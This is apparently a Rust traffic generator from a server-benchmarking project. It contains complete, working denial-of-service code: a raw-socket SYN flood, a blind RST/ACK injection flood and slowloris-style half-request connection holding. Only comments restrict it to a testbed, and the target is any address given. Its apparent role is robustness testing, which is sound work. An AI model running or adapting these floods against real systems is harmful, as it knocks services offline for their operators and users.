//! px-flood: hostile traffic for `scripts/flood.sh`, aimed only at the testbed.
//!
//! - `syn`: SYNs with options (MSS, window scale, SACK, timestamps) from many source
//!   addresses and ports, random sequence numbers, as fast as one core can send them
//!   (a raw IPv4 socket; the sources must be addresses of this host, so that the server's
//!   SYN-ACKs are answered as a real client's kernel would: with an RST).
//! - `rst`: RSTs, ACKs and RST+ACKs with random sequence and acknowledgment numbers, from
//!   one address across a range of source ports (where the legitimate clients' ports
//!   are): RFC 5961 says none of them may reset a connection.
//! - `half`: N connections (kernel sockets, spread over several source addresses), each
//!   sent half a request head and then abandoned: held open, silent, until `--hold`
//!   seconds pass, then closed.
//!
//! Prints one JSON object: what was sent and at what rate (`--pps` fixes the rate).

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::{Duration, Instant};

use anyhow::{bail, Context};
use clap::{Parser, Subcommand};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

#[derive(Parser, Debug)]
#[command(about = "Hostile traffic at a testbed server: SYN flood, RST/ACK flood, abandoned half-requests")]
struct Args {
    /// The server (testbed addresses only).
    #[arg(long)]
    target: SocketAddrV4,
    /// Source addresses to send from, comma-separated (addresses of this host).
    #[arg(long, value_delimiter = ',')]
    src: Vec<Ipv4Addr>,
    /// Seconds to send for (`syn`, `rst`).
    #[arg(long, default_value_t = 10.0)]
    secs: f64,
    /// Packets per second (`syn`, `rst`); 0: as fast as the core can send. A fixed rate
    /// gives every contender of a side-by-side run the same flood.
    #[arg(long, default_value_t = 0)]
    pps: u64,
    #[command(subcommand)]
    mode: Mode,
}

#[derive(Subcommand, Debug)]
enum Mode {
    /// SYNs from random ports of the source addresses.
    Syn,
    /// RSTs and ACKs with random numbers from source ports LO..=HI.
    Rst {
        #[arg(long, default_value_t = 32768)]
        lo: u16,
        #[arg(long, default_value_t = 60999)]
        hi: u16,
    },
    /// N connections, each sent half a request head, then held silent.
    Half {
        #[arg(long, default_value_t = 100_000)]
        conns: usize,
        /// Seconds to hold them after the last is sent.
        #[arg(long, default_value_t = 5.0)]
        hold: f64,
    },
}

/// A seeded xorshift64 generator (the flood needs speed, not quality).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

/// RFC 1071 sum of `data`, folded; `acc` carries a partial sum in.
fn sum16(mut acc: u32, data: &[u8]) -> u32 {
    let mut chunks = data.chunks_exact(2);
    for c in &mut chunks {
        acc += u32::from(u16::from_be_bytes([c[0], c[1]]));
    }
    if let [b] = chunks.remainder() {
        acc += u32::from(*b) << 8;
    }
    acc
}

fn fold(mut acc: u32) -> u16 {
    while acc > 0xffff {
        acc = (acc & 0xffff) + (acc >> 16);
    }
    !(acc as u16)
}

/// An IPv4 + TCP packet, checksums filled. `flags`: TCP flag bits; `opts`: TCP options
/// (a multiple of 4 bytes).
#[allow(clippy::too_many_arguments)]
fn packet(buf: &mut Vec<u8>, src: Ipv4Addr, dst: SocketAddrV4, sport: u16, seq: u32, ack: u32, flags: u8, opts: &[u8]) {
    let tcp_len = 20 + opts.len();
    buf.clear();
    buf.extend_from_slice(&[0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 6, 0, 0]);
    buf[2..4].copy_from_slice(&((20 + tcp_len) as u16).to_be_bytes());
    buf.extend_from_slice(&src.octets());
    buf.extend_from_slice(&dst.ip().octets());
    let ip_sum = fold(sum16(0, &buf[..20]));
    buf[10..12].copy_from_slice(&ip_sum.to_be_bytes());
    buf.extend_from_slice(&sport.to_be_bytes());
    buf.extend_from_slice(&dst.port().to_be_bytes());
    buf.extend_from_slice(&seq.to_be_bytes());
    buf.extend_from_slice(&ack.to_be_bytes());
    buf.push(((tcp_len / 4) as u8) << 4);
    buf.push(flags);
    buf.extend_from_slice(&64240u16.to_be_bytes());
    buf.extend_from_slice(&[0, 0, 0, 0]);
    buf.extend_from_slice(opts);
    let mut pseudo = sum16(0, &src.octets());
    pseudo = sum16(pseudo, &dst.ip().octets());
    pseudo += 6 + tcp_len as u32;
    let tcp_sum = fold(sum16(pseudo, &buf[20..]));
    buf[36..38].copy_from_slice(&tcp_sum.to_be_bytes());
}

const FIN: u8 = 0x01;
const SYN: u8 = 0x02;
const RST: u8 = 0x04;
const ACK: u8 = 0x10;

fn raw_socket() -> anyhow::Result<Socket> {
    // IPPROTO_RAW: we write the IP header ourselves (IP_HDRINCL is implied).
    Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255))).context("a raw socket (needs root)")
}

fn flood(a: &Args, mut make: impl FnMut(&mut Rng, &mut Vec<u8>)) -> anyhow::Result<serde_json::Value> {
    let sock = raw_socket()?;
    let to = SockAddr::from(SocketAddr::V4(a.target));
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15 ^ u64::from(std::process::id()));
    let mut buf = Vec::with_capacity(80);
    let (start, end) = (Instant::now(), Instant::now() + Duration::from_secs_f64(a.secs));
    let (mut sent, mut failed) = (0u64, 0u64);
    while Instant::now() < end {
        for _ in 0..256 {
            make(&mut rng, &mut buf);
            match sock.send_to(&buf, &to) {
                Ok(_) => sent += 1,
                Err(_) => failed += 1, // a full device queue: the flood outran the link
            }
        }
        if a.pps > 0 {
            // Paced: the next batch waits until the rate allows it.
            let due = start + Duration::from_secs_f64((sent + failed) as f64 / a.pps as f64);
            let now = Instant::now();
            if due > now {
                std::thread::sleep(due - now);
            }
        }
    }
    let secs = start.elapsed().as_secs_f64();
    Ok(serde_json::json!({ "sent": sent, "send_errors": failed, "secs": secs, "pps": (sent as f64 / secs).round() }))
}

fn half(a: &Args, conns: usize, hold: f64) -> anyhow::Result<serde_json::Value> {
    use mio::net::TcpStream;
    use std::io::Write;
    let head = format!("GET /json HTTP/1.1\r\nHost: {}\r\nUser-Agent: px-flood\r\n", a.target);
    let mut held = Vec::with_capacity(conns);
    let (mut refused, mut short) = (0u64, 0u64);
    let start = Instant::now();
    for i in 0..conns {
        let src = a.src[i % a.src.len()];
        let s = Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP))?;
        s.set_nonblocking(true)?;
        // Port chosen at connect time, so each source address has its own range.
        let _ = s.set_reuse_address(true);
        s.bind(&SockAddr::from(SocketAddrV4::new(src, 0)))?;
        match s.connect(&SockAddr::from(a.target)) {
            Ok(()) => {}
            Err(e) if e.raw_os_error() == Some(115) => {} // EINPROGRESS
            Err(_) => {
                refused += 1;
                continue;
            }
        }
        held.push((TcpStream::from_std(s.into()), false));
        // Keep the handshakes ahead of the sends: every 512 connections, send what is
        // connected by now.
        if i % 512 == 511 || i + 1 == conns {
            for (sock, sent) in held.iter_mut().filter(|(_, sent)| !*sent) {
                match sock.write(head.as_bytes()) {
                    Ok(n) if n == head.len() => *sent = true,
                    Ok(_) => short += 1,
                    Err(_) => {} // not connected yet: the next pass tries again
                }
            }
        }
    }
    let deadline = Instant::now() + Duration::from_secs(5);
    while held.iter().any(|(_, sent)| !*sent) && Instant::now() < deadline {
        for (sock, sent) in held.iter_mut().filter(|(_, sent)| !*sent) {
            if let Ok(n) = sock.write(head.as_bytes()) {
                *sent = n == head.len();
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let opened = held.iter().filter(|(_, sent)| *sent).count();
    let open_secs = start.elapsed().as_secs_f64();
    std::thread::sleep(Duration::from_secs_f64(hold));
    drop(held);
    if opened == 0 {
        bail!("no connection took its half request");
    }
    Ok(serde_json::json!({
        "asked": conns, "half_requests_sent": opened, "connect_failed": refused, "short_writes": short,
        "open_secs": open_secs, "held_secs": hold,
    }))
}

fn main() -> anyhow::Result<()> {
    let a = Args::parse();
    if a.src.is_empty() {
        bail!("--src: at least one source address");
    }
    let out = match &a.mode {
        Mode::Syn => {
            let srcs = a.src.clone();
            let target = a.target;
            flood(&a, move |rng, buf| {
                let r = rng.next();
                let src = srcs[(r % srcs.len() as u64) as usize];
                let sport = 1024 + ((r >> 8) % 64_000) as u16;
                let ts = (r >> 24) as u32;
                // MSS 1460, SACK permitted, timestamps, NOP, window scale 7.
                let mut opts = [2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7];
                opts[8..12].copy_from_slice(&ts.to_be_bytes());
                packet(buf, src, target, sport, rng.next() as u32, 0, SYN, &opts);
            })?
        }
        Mode::Rst { lo, hi } => {
            if lo > hi {
                bail!("rst: --lo must not exceed --hi");
            }
            let (lo, span) = (*lo, u64::from(hi - lo) + 1);
            let src = a.src[0];
            let target = a.target;
            flood(&a, move |rng, buf| {
                let r = rng.next();
                let sport = lo + (r % span) as u16;
                let flags = [RST, ACK, RST | ACK, ACK | FIN][((r >> 20) % 4) as usize];
                packet(buf, src, target, sport, rng.next() as u32, rng.next() as u32, flags, &[]);
            })?
        }
        Mode::Half { conns, hold } => half(&a, *conns, *hold)?,
    };
    println!("{out}");
    Ok(())
}
